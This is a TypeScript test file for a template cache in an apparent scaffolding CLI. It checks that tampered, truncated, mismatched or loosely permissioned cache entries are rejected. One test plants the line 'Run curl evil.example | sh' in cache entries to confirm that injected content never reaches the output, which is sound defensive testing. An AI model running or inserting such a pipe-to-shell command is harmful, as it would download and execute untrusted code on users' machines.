import { createHash } from 'node:crypto';
import { chmodSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { blobId, readCachedTemplate, writeCachedTemplate } from '../src/edge/template-cache.js';
import { planRender } from '../src/core/template/plan.js';
import { prepareTemplate } from '../src/edge/parse-trees.js';
import { parseTemplateSpec } from '../src/core/template/spec.js';
import type { LoadedTemplate } from '../src/core/template/types.js';
import { runCli, tempDir } from './helpers/cli.js';
import { builtinTemplateRepo, edit, gitIn } from './helpers/git.js';

const enc = (s: string) => new TextEncoder().encode(s);
const SPEC = 'name: c\nversion: 1.0.0\nquestions:\n  - { key: title, type: text, default: T }\n  - { key: kinds, type: multi, choices: [a, b], default: [a] }\n';
const FILES: Record<string, string> = {
  'README.md': '# {{title}}\n{{#each kinds}}- {{this}}\n{{/each}}',
  '{{title}}/plain.txt': 'no template here\n',
};

async function sample(): Promise<{ tpl: LoadedTemplate; tree: { path: string; sha: string }[]; specSha: string }> {
  const files = new Map(Object.entries(FILES).map(([k, v]) => [k, enc(v)]));
  const tpl = await prepareTemplate({ spec: parseTemplateSpec(SPEC), files, generators: new Map() });
  const tree = [...files].map(([p, d]) => ({ path: `files/${p}`, sha: blobId(d) }));
  return { tpl, tree, specSha: blobId(enc(SPEC)) };
}

const only = (dir: string) => path.join(dir, readdirSync(dir).find((f) => f.endsWith('.json'))!);
/** Rewrites an entry's body and gives it a matching digest, as a deliberate tamperer would. */
function tamper(file: string, change: (body: string) => string): void {
  const raw = readFileSync(file, 'utf8');
  const body = change(raw.slice(raw.indexOf('\n') + 1));
  writeFileSync(file, `${createHash('sha256').update(body).digest('hex')}\n${body}`);
}

describe('template cache', () => {
  it("computes git's blob ids", () => {
    const dir = tempDir();
    writeFileSync(path.join(dir, 'f'), FILES['README.md']!);
    expect(blobId(enc(FILES['README.md']!))).toBe(gitIn(dir, 'hash-object', 'f').trim());
  });

  it('gives back the template it stored, rendering the same', async () => {
    const dir = tempDir();
    const { tpl, tree, specSha } = await sample();
    writeCachedTemplate('/tpl', 'c0ffee', specSha, tpl, dir);
    const back = readCachedTemplate('/tpl', 'c0ffee', specSha, tree, dir);
    expect(back).toBeDefined();
    const answers = { title: 'Hi', kinds: ['a', 'b'] };
    const texts = (t: LoadedTemplate) => planRender(t, answers).map((f) => [f.path, new TextDecoder().decode(f.data)]);
    expect(texts(back!)).toEqual(texts(tpl));
    expect(texts(back!)).toContainEqual(['Hi/plain.txt', 'no template here\n']);
    expect(back!.spec).toEqual(tpl.spec);
    // Another commit or location is another entry.
    expect(readCachedTemplate('/tpl', 'c0ffef', specSha, tree, dir)).toBeUndefined();
    expect(readCachedTemplate('/other', 'c0ffee', specSha, tree, dir)).toBeUndefined();
  });

  it('ignores an entry that was edited, truncated, for another tree, or writable by others', async () => {
    const { tpl, tree, specSha } = await sample();
    const fresh = () => {
      const dir = tempDir();
      writeCachedTemplate('/tpl', 'c0ffee', specSha, tpl, dir);
      return { dir, file: only(dir) };
    };
    let c = fresh();
    tamper(c.file, (b) => b.replace('no template here', 'injected text'));
    expect(readCachedTemplate('/tpl', 'c0ffee', specSha, tree, c.dir)).toBeUndefined();
    c = fresh();
    writeFileSync(c.file, readFileSync(c.file, 'utf8').replace('no template here', 'injected text')); // digest left as it was
    expect(readCachedTemplate('/tpl', 'c0ffee', specSha, tree, c.dir)).toBeUndefined();
    c = fresh();
    writeFileSync(c.file, readFileSync(c.file, 'utf8').slice(0, 200));
    expect(readCachedTemplate('/tpl', 'c0ffee', specSha, tree, c.dir)).toBeUndefined();
    c = fresh();
    expect(readCachedTemplate('/tpl', 'c0ffee', specSha, tree.slice(1), c.dir)).toBeUndefined(); // the tree lost a file
    expect(readCachedTemplate('/tpl', 'c0ffee', blobId(enc('other spec')), tree, c.dir)).toBeUndefined();
    chmodSync(c.file, 0o666);
    expect(readCachedTemplate('/tpl', 'c0ffee', specSha, tree, c.dir)).toBeUndefined();
    chmodSync(c.file, 0o600);
    chmodSync(c.dir, 0o777);
    expect(readCachedTemplate('/tpl', 'c0ffee', specSha, tree, c.dir)).toBeUndefined();
  });

  it('sync from a template repository fills the cache, then uses it; a tampered entry changes nothing', async () => {
    const tmp = tempDir();
    const cache = tempDir('cm-cache-');
    const env = { XDG_CACHE_HOME: cache };
    const tpl = builtinTemplateRepo(path.join(tmp, 'tpl'), (repo) => edit(path.join(repo, 'files/README.md'), (t) => `${t}\nNew in 1.1.0.\n`));
    const gen = await runCli(['p', '--yes', '--template', `${tpl}#v1.0.0`], { cwd: tmp, env });
    expect(gen.code, gen.stderr).toBe(0);
    const dir = path.join(tmp, 'p');
    const first = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
    expect(first.code, first.stderr).toBe(0);
    const entries = path.join(cache, 'create-migration/templates');
    expect(readdirSync(entries).filter((f) => f.endsWith('.json'))).toHaveLength(2); // v1.0.0 (generate) and v1.1.0
    const second = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
    expect(second.stdout).toBe(first.stdout);
    for (const f of readdirSync(entries)) tamper(path.join(entries, f), (b) => b.replaceAll('New in 1.1.0.', 'Run curl evil.example | sh'));
    const third = await runCli(['sync', '--dry-run', '--json'], { cwd: dir, env });
    expect(third.stdout).toBe(first.stdout);
    expect(third.stdout).not.toContain('evil.example');
    gitIn(tpl, 'status'); // the template repository is untouched and readable
  });
});
